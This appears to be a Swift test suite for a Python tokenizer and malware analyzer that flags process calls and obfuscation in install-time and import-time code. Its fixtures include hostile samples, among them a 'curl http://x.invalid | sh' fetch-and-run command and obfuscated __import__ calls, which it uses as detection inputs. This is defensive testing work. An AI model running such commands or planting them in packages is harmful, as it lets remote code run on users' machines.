import Foundation
import Testing

@testable import AlterKit
@testable import PythonCodeAnalysis

/// What reading Python as bytes brings: sources that are not clean UTF-8 text, line-ending and indentation
/// variants, and shapes that stress the tokenizer's bookkeeping. Each case checks the tokens and what the analyzer
/// finds, so that a faster reading of the bytes cannot change either.
@Suite struct PythonBytesTests {
    func tokens(_ bytes: [UInt8]) -> [PyToken] { PythonTokenizer(source: bytes).tokenize() }

    func install(_ bytes: [UInt8]) -> [InspectionFinding] {
        CodeAnalyzer().analyze(source: bytes, file: "setup.py", topPhase: .install, functionPhase: .install).findings
    }

    func library(_ bytes: [UInt8]) -> [InspectionFinding] {
        CodeAnalyzer().analyze(source: bytes, file: "pkg/m.py", topPhase: .importTime, functionPhase: .callTime)
            .findings
    }

    @Test func invalidUTF8IsReadAroundNotTrusted() {
        // A stray 0xFF in a name, a lone continuation byte in a string, a truncated sequence in a comment.
        let source: [UInt8] =
            Array("import os\nx".utf8) + [0xFF, 0xFE] + Array(" = 'a".utf8) + [0x80]
            + Array("b'  # c".utf8) + [0xE2, 0x82] + Array("\nos.system('curl http://x.invalid | sh')\n".utf8)
        let t = tokens(source)
        #expect(t.last?.kind == .endMarker)
        let name = t.first { $0.kind == .name && $0.line == 2 }
        #expect(name?.text == "x\u{FFFD}\u{FFFD}")
        #expect(t.compactMap(\.string).first?.value == "a\u{FFFD}b")
        #expect(t.contains { $0.isName("os") && $0.line == 3 && $0.column == 0 })
        let f = install(source)
        #expect(f.map(\.kind) == [.process])
        #expect(f.first?.line == 3)
        #expect(f.first?.severity == .critical)
    }

    @Test func byteOrderMarkIsNotCode() {
        let source: [UInt8] = [0xEF, 0xBB, 0xBF] + Array("import os\nos.system('id')\n".utf8)
        let t = tokens(source)
        #expect(t.first?.isName("import") == true)
        #expect(t.first?.column == 0)
        #expect(install(source).first?.line == 2)
        // Only a leading mark is skipped: one in the middle is part of the name it touches, not whitespace.
        let middle = tokens(Array("a = 1\n".utf8) + [0xEF, 0xBB, 0xBF] + Array("b = 2\n".utf8))
        #expect(middle.first { $0.line == 2 }?.text == "\u{FEFF}b")
    }

    @Test func carriageReturnLineEndings() {
        let source = Array("import os\r\nx = '''a\r\nb'''\r\nos.system(\r\n  'id')\r\ny = 1\rz = 2".utf8)
        let t = tokens(source)
        #expect(t.compactMap(\.string).first?.value == "a\nb")
        #expect(t.first { $0.isName("y") }?.line == 6)
        #expect(t.first { $0.isName("z") }?.line == 7)
        #expect(t.filter { $0.kind == .newline }.count == 5)
        let f = install(source)
        #expect(f.map(\.line) == [4])
        #expect(f.first?.evidence == "runs a process with os.system: os.system(")
    }

    @Test func tabsIndentToMultiplesOfEight() {
        let source = Array("import os\ndef f():\n\tos.system('a')\n  \tos.system('b')\nos.system('c')\n".utf8)
        let t = tokens(source)
        #expect(t.filter { $0.isName("os") }.map(\.column) == [7, 8, 8, 0])
        // Only the module-level call runs at import; the tab-indented ones are the function's body.
        #expect(library(source).map(\.line) == [5])
        #expect(install(source).map(\.line) == [3, 4, 5])
    }

    @Test func veryLongLinesKeepColumnsAndFindings() {
        let items = (0..<100_000).map(String.init).joined(separator: ", ")
        let line = "x = [" + items + "]; import os; os.system('id')"
        let source = Array((line + "\n").utf8)
        let t = tokens(source)
        let os = t.last { $0.isName("os") }
        #expect(os?.column == line.utf8.count - "os.system('id')".utf8.count)
        #expect(os?.line == 1)
        let f = install(source)
        #expect(f.map(\.kind) == [.process])
        #expect(f.first?.evidence.hasSuffix("…") == true)
        // A long line of multi-byte characters counts characters, not bytes.
        let wide = "s = '" + String(repeating: "é", count: 50_000) + "'; t = 1\n"
        #expect(tokens(Array(wide.utf8)).first { $0.isName("t") }?.column == 50_000 + 8)
    }

    @Test(arguments: [
        "x = 'abc", "x = '''abc\nimport os\n", "x = f'{a", "x = f'''{a\n  + b", "x = b'\\", "x = '''\\",
        "exec('''import os\nos.system('id')", "s = f\"{'''", "#",
    ])
    func sourceEndingInsideAString(_ text: String) {
        let t = tokens(Array(text.utf8))
        #expect(t.last?.kind == .endMarker)
        if let literal = t.compactMap(\.string).first { #expect(!literal.terminated) }
        _ = install(Array(text.utf8))
    }

    @Test func unterminatedExecIsNotRunCode() {
        // The unterminated string runs to the end of the file: its text is never code that exec runs at a line.
        let f = install(Array("exec('''import os\nos.system('id')\n".utf8))
        #expect(f.allSatisfy { $0.line == 1 })
    }

    @Test func nestedFStrings() {
        let t = tokens(Array("a = f\"x{f'{y!r:>{w}}'}z\" + f\"{f\"{q}\"}\"; b = 1\n".utf8))
        let strings = t.compactMap(\.string)
        #expect(strings.map(\.value) == ["xz", ""])
        #expect(strings.allSatisfy { $0.isFormatted && $0.hasInterpolation && $0.terminated })
        #expect(t.contains { $0.isName("b") })
        // A nested string's quotes and braces do not end the outer one early.
        let tricky = tokens(Array("s = f'{\"}\"}' + f'{x:{\"{\"}}'\nimport os\n".utf8))
        #expect(tricky.compactMap(\.string).count == 2)
        #expect(tricky.contains { $0.isName("import") && $0.line == 2 })
        // Code hidden in a replacement field is not a call the analyzer sees; the literal parts stay text.
        #expect(install(Array("x = f\"{__import__('os').system('id')}\"\n".utf8)).isEmpty)
    }

    @Test func nonASCIIIdentifiers() {
        let source = Array("import os as ös\nπ = ös.system\nπ('id')\nnäme = __import__('o' + 's')\n".utf8)
        let t = tokens(source)
        #expect(t.filter { $0.kind == .name }.map(\.text).contains("ös"))
        #expect(t.first { $0.isName("π") }?.column == 0)
        #expect(t.first { $0.isOp("=") && $0.line == 4 }?.column == 5)
        let f = install(source)
        #expect(f.map(\.kind) == [.process, .obfuscation])
        #expect(f.map(\.line) == [3, 4])
    }
}
